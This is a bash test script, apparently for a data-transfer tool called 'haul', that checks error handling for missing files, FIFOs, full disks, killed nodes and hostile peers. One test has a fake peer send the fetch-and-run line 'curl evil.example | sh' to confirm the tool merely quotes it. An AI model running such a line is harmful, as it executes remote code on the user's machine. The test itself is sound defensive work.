#!/bin/bash
# SPDX-License-Identifier: MIT
#
# Faults: each one has a clear error and status 1, and does not affect the node.
here=$(dirname "$0")
# shellcheck source=tests/cli/lib.sh
. "$here/lib.sh"

random_file "$work/file" 3000001
serve --region big=host:256M --region small=host:1M --region locked=host:8M:ro \
  --file file="$work/file":ro

unharmed() {
  holds "the node is unharmed" timeout 10 "$HAUL" ls "$tcp"
}

# holds_only FOLDER FILE…: the folder has only these files, and no temporary ones.
holds_only() {
  local folder=$1
  shift
  holds "the folder has no other files" \
    test "$(find "$folder" -mindepth 1 -printf '%f\n' | sort | xargs)" = "$*"
}

section "missing files, names and listeners"
expect 1 "put of a missing file" "$HAUL" put "$work/missing" "$tcp/big"
complains "cannot open .*missing: No such file"
complains_briefly
expect 1 "put of a folder" "$HAUL" put "$work" "$tcp/big"
complains "Is a directory"
expect 1 "put into an unknown name" "$HAUL" put "$work/file" "$tcp/unknown"
complains "cannot find the region 'unknown'"
complains_briefly
expect 1 "get of an unknown name" "$HAUL" get "$tcp/unknown" "$work/copy"
holds "no file appeared" test ! -e "$work/copy"
expect 1 "explain of an unknown name" "$HAUL" explain host "$tcp/unknown"
expect 1 "bench of an unknown name" "$HAUL" bench "$tcp" --region unknown
expect 1 "ls without a listener" "$HAUL" ls tcp://127.0.0.1:1
complains "cannot connect to tcp://127.0.0.1:1"
complains_briefly
expect 1 "ls of a missing socket" "$HAUL" ls "unix://$work/no.sock"
expect 1 "an unknown scheme" "$HAUL" ls pigeon://loft
expect 1 "serve of a missing file" "$HAUL" serve --listen tcp://127.0.0.1:0 \
  --file a="$work/missing"
complains "cannot open"
mkfifo "$work/fifo"
limit=20 expect 1 "serve of a FIFO without a writer" timeout -k 1 10 "$HAUL" serve \
  --listen tcp://127.0.0.1:0 --file a="$work/fifo"
complains "it is not a regular file"
# In the foreground timeout sends one signal: without, its group gets a second one, which kills. On a busy
# machine the command may need longer to start.
for command in "put $work/fifo $tcp/small" "get $tcp/small $work/fifo"; do
  for after in 0.5 5 30; do
    # shellcheck disable=SC2086
    timeout --foreground --preserve-status $after "$HAUL" $command 2>"$work/err"
    status=$?
    ! grep -q interrupted "$work/err" || break
  done
  holds "$command is interrupted" test "$status" = 143
  complains "^haul: [a-z]*: interrupted$"
done
expect 1 "put of a FIFO without a writer" "$HAUL" put "$work/fifo" "$tcp/small" --timeout 2
complains "timed out waiting for $work/fifo$"
expect 1 "get into a FIFO without a reader" "$HAUL" get "$tcp/small" "$work/fifo" --timeout 2
complains "timed out waiting for a reader of $work/fifo$"
{ sleep 0.3 && timeout 60 cat "$work/fifo" >"$work/read"; } &
expect 0 "get into a FIFO whose reader comes later" "$HAUL" get "$tcp/small" "$work/fifo" --length 64K --timeout 60
wait $!
holds "all bytes arrive" test "$(stat -c %s "$work/read")" = 65536
{ sleep 0.3 && timeout 60 bash -c 'cat "$0" >"$1"' "$work/read" "$work/fifo"; } &
expect 0 "put of a FIFO whose writer comes later" "$HAUL" put "$work/fifo" "$tcp/small" --timeout 60
wait $!
# interrupt_loop FIFO: presses ^C on a terminal, in the first turn of a shell's loop that waits for input.
interrupt_loop() {
  PYTHONPATH=$here python3 - "$HAUL" "$1" "$tcp/small" <<'END'
import os, signal, sys
from terminal import Terminal

signal.signal(signal.SIGINT, signal.SIG_DFL)
loop = 'for i in 1 2 3; do "$0" put "$1" "$2"; echo "turn $i ended"; done'
terminal = Terminal(24, 80, ["bash", "-c", loop, *sys.argv[1:]])
writers = []

def is_read():
    try:
        writers.append(os.open(sys.argv[2], os.O_WRONLY | os.O_NONBLOCK))
    except OSError:
        return False
    return True

terminal.until(is_read, "the put opens its input")
terminal.press("\x03")
status = terminal.ends()
sys.stdout.buffer.write(terminal.received)
terminal.close()
sys.exit(status != -signal.SIGINT or b"turn" in terminal.received)
END
}
holds "a loop ends with the put that is interrupted" interrupt_loop "$work/fifo"
expect 1 "serve of an empty file" "$HAUL" serve --listen tcp://127.0.0.1:0 --file a=/dev/null
unharmed

section "a hostile listener"
node=$server
serve_hostile refusal
expect 1 "ls of a listener that refuses" "$HAUL" ls "$tcp"
complains 'the peer refused the connection: "no|run: curl evil.example | sh"'
complains_briefly
holds "the hint is ours" grep -qx "hint: compare HAUL_KEY of both sides, and see the log of the peer's node" "$work/err"
slay "$server"
serve_hostile regions
limit=20 expect 1 "ls of a listener with regions without end" "$HAUL" ls "$tcp"
complains "the peer sent a malformed control frame"
slay "$server"
serve_hostile silence
limit=8 expect 1 "ls of a listener that does not answer" "$HAUL" ls "$tcp" --timeout 0.5
complains "no response from the peer in time"
slay "$server"
server=$node
tcp=$(sed -n 's/^listening on \(tcp:.*\)/\1/p' "${server_err%.err}")

section "conflicts and permissions"
expect 1 "serve on a port in use" "$HAUL" serve --listen "$tcp"
complains "cannot listen on $tcp"
complains_briefly
expect 2 "serve two regions of one name" "$HAUL" serve --listen tcp://127.0.0.1:0 \
  --region a=host:1M --region a=host:2M
complains "two regions have the name 'a'"
expect 1 "serve on all addresses without --insecure" "$HAUL" serve --listen tcp://0.0.0.0:0
complains "insecure"
expect 1 "put into a read-only region" "$HAUL" put "$work/file" "$tcp/locked"
complains "^hint: .*haul serve, without ':ro'"
complains_briefly
expect 0 "explain of a read-only region" "$HAUL" explain host "$tcp/locked"
says "^a read, as the region is read-only$"
expect 1 "explain at an unknown device" "$HAUL" explain sim:999 "$tcp/big"
complains "^hint: haul info shows the places"
expect 0 "get of the read-only region" "$HAUL" get "$tcp/file" "$work/copy"
holds "the bytes are unchanged" cmp "$work/file" "$work/copy"
expect 2 "an unknown path" "$HAUL" put "$work/file" "$tcp/big" --only pigeon
complains "expected map, rdma or tcp$"
unharmed

section "sizes"
expect 1 "a file larger than the region" "$HAUL" put "$work/file" "$tcp/small"
complains "does not fit: the region has room for 1048576 bytes"
expect 1 "a file that exceeds the region after an offset" "$HAUL" put "$work/file" "$tcp/big" --offset 255M
expect 1 "an offset beyond the end" "$HAUL" put "$work/file" "$tcp/big" --offset 1T
# keeps WHAT: the last command left the region as it was, more than what is in flight at once.
random_file "$work/full" 32M
expect 0 "the end of a region is filled" "$HAUL" put "$work/full" "$tcp/big" --offset 224M --quiet
keeps() {
  "$HAUL" get "$tcp/big" "$work/kept" --offset 224M --quiet
  holds "$1 leaves the region unchanged" cmp "$work/full" "$work/kept"
}
expect 1 "a pipe longer than the region" \
  sh -c "head -c 33M /dev/zero | \"$HAUL\" put - $tcp/big --offset 224M"
complains "does not fit"
complains_briefly
keeps "it"
expect 1 "an endless device" "$HAUL" put /dev/zero "$tcp/big" --offset 224M
complains "/dev/zero does not fit: the region has room for 33554432 bytes"
keeps "it"
# The kept bytes are read where they cannot be mapped.
little="ulimit -v 102400"
if sh -c "$little && exec \"$HAUL\" version" >/dev/null 2>&1; then
  expect 0 "a pipe with little room for mappings" \
    sh -c "$little && head -c 20M '$work/full' | \"$HAUL\" put - $tcp/big --quiet"
  "$HAUL" get "$tcp/big" "$work/kept" --length 20M --quiet
  holds "all of it has arrived" cmp -n 20M "$work/full" "$work/kept"
else
  echo "skipped a pipe with little room for mappings: this build needs more of the address space"
fi
expect 1 "a pipe that no temporary file can keep" env TMPDIR="$work/nowhere" \
  sh -c "echo | \"$HAUL\" put - $tcp/big --offset 224M"
complains "^hint: set TMPDIR .* or add --partial"
keeps "it"
expect 1 "a pipe that does not end in time" sh -c "sleep 2 | \"$HAUL\" put - $tcp/small --timeout 0.2"
complains "timed out waiting for standard input"
expect 1 "an endless device, as it arrives" "$HAUL" put /dev/zero "$tcp/big" --offset 240M --partial
complains "does not fit"
complains "^hint: .*; $tcp/big now has [0-9]* bytes of /dev/zero from offset 251658240 on, and [0-9]* undefined ones behind them$"
complains_briefly
holds "the sum is the room" awk '/^hint: / { for (i = 1; i < NF; i++) if ($(i) == "has" || $(i) == "and")
  sum += $(i + 1) } END { exit sum != 16777216 }' "$work/err"
expect 1 "get beyond the region" "$HAUL" get "$tcp/small" "$work/more" --length 2M
expect 1 "get from beyond the end" "$HAUL" get "$tcp/small" "$work/more" --offset 1M
expect 1 "get of a sum that overflows" "$HAUL" get "$tcp/small" "$work/more" --offset 16 \
  --length 18446744073709551615
holds "no file appeared" test ! -e "$work/more"
expect 1 "explain beyond the region" "$HAUL" explain host "$tcp/small" --size 2M
expect 1 "bench beyond the region" "$HAUL" bench "$tcp" --region small --sizes 2M
expect 1 "bench of a message beyond the limit" "$HAUL" bench "$tcp" --op message --sizes 2M
unharmed

section "a full disk"
expect 1 "get into a full device" "$HAUL" get "$tcp/file" /dev/full
complains "cannot write /dev/full: No space left on device"
complains_briefly
mkdir "$work/disk"
if mount -t tmpfs -o size=1m tmpfs "$work/disk" 2>"$work/err"; then
  mounts+=("$work/disk")
  echo before >"$work/disk/kept"
  expect 1 "get onto a disk that is too small" "$HAUL" get "$tcp/file" "$work/disk/kept"
  complains "No space left on device"
  complains_briefly
  holds_only "$work/disk" kept
  holds "the old content is kept" grep -q before "$work/disk/kept"
else
  skipped "a disk that is too small: $(cat "$work/err")"
fi
expect 1 "get into a missing folder" "$HAUL" get "$tcp/file" "$work/no/file"
expect 1 "get onto a folder" "$HAUL" get "$tcp/file" "$work/disk"
unharmed

section "a node that is killed"
mkfifo "$work/pipe"
# put_from_pipe ADDRESS: starts a put that has sent some bytes and waits for more.
put_from_pipe() {
  "$HAUL" put - "$1/big" --partial <"$work/pipe" >"$work/out" 2>"$work/err" &
  client=$!
  processes+=("$client")
  exec 9>"$work/pipe"
  head -c 12M /dev/zero >&9
}
for name in tcp unix; do
  serve --region big=host:256M
  put_from_pipe "${!name}"
  slay "$server"
  started=$SECONDS
  wait "$client"
  status=$?
  exec 9>&-
  holds "put over $name ends with status 1 when the node is killed" test "$status" = 1
  holds "and says so within ten seconds" test $((SECONDS - started)) -le 10
  complains_briefly
  complains "^hint: .*${!name}/big now has [0-9]* bytes of standard input from offset 0 on, and [0-9]* undefined"
done

# shellcheck disable=SC2317 # called through await
is_not_empty() {
  [[ -n $(ls -A "$1") ]]
}

# kill_during_get SIGNAL VARIABLE: starts a get of a large region, and signals the process in the
# variable once the temporary file exists. Retries if the get was faster.
kill_during_get() {
  local signal=$1 victim=$2 round
  for round in 1 2 3 4 5; do
    rm -rf "$work/got"
    mkdir "$work/got"
    serve --region big=host:1G
    "$HAUL" get "$tcp/big" "$work/got/file" >"$work/out" 2>"$work/err" &
    client=$!
    processes+=("$client")
    await is_not_empty "$work/got"
    { kill "-$signal" "${!victim}" && wait "$client"; } 2>/dev/null
    status=$?
    slay "$server"
    ((status != 0)) && return
    echo "        the get was faster than the kill (round $round)"
  done
}
kill_during_get KILL server
holds "get ends with status 1 when the node is killed" test "$status" = 1
complains_briefly
holds_only "$work/got"
kill_during_get TERM client
holds "get ends by the signal that interrupts it" test "$status" = 143
holds_only "$work/got"

section "a client that is killed"
serve --region big=host:256M
put_from_pipe "$tcp"
slay "$client"
exec 9>&-
unharmed
expect 0 "the next put succeeds" "$HAUL" put "$work/file" "$tcp/big"

section "a file that changes"
cp "$work/file" "$work/changing"
serve --region big=host:256M
expect 0 "put of a file" "$HAUL" put "$work/changing" "$tcp/big" --quiet
: >"$work/changing"
expect 0 "put of an empty file moves nothing" "$HAUL" put "$work/changing" "$tcp/big"
says "nothing to move"
"$HAUL" key new "$work/key" 2>/dev/null
for path in map tcp tls; do
  # Untouched memory is slow to write, so the cut comes during the transfer.
  if [[ $path == tls ]]; then export HAUL_KEY=$work/key; fi
  serve --region big=host:192M
  truncate -s 192M "$work/changing"
  (sleep 0.1 && : >"$work/changing") &
  processes+=($!)
  if [[ $path == tls ]]; then to=$tcp only=tcp; else to=$unix only=$path; fi
  timeout 30 "$HAUL" put "$work/changing" "$to/big" --only "$only" >"$work/out" 2>"$work/err"
  status=$?
  wait $!
  # 0: the put was faster; SIGBUS must not end it.
  holds "a file cut short during the transfer does not kill a put over $path" test "$status" -le 1
  if ((status == 1)); then
    complains "cut short\|became shorter"
    holds "its error tells it once" has_lines 1 "cut short\|became shorter" "$work/err"
  fi
  holds "the node is unharmed" timeout 10 "$HAUL" ls "$unix"
done
unset HAUL_KEY
serve

section "deadlines"
freeze "$server"
expect 1 "ls of a stopped node" "$HAUL" ls "$tcp" --timeout 0.5
complains_briefly
kill -CONT "$server"
unharmed

section "the end of a node"
stop "$server"
holds "serve ends with status 0 on SIGTERM" test "$status" = 0
expect 1 "ls of the ended node" "$HAUL" ls "$tcp"

finish
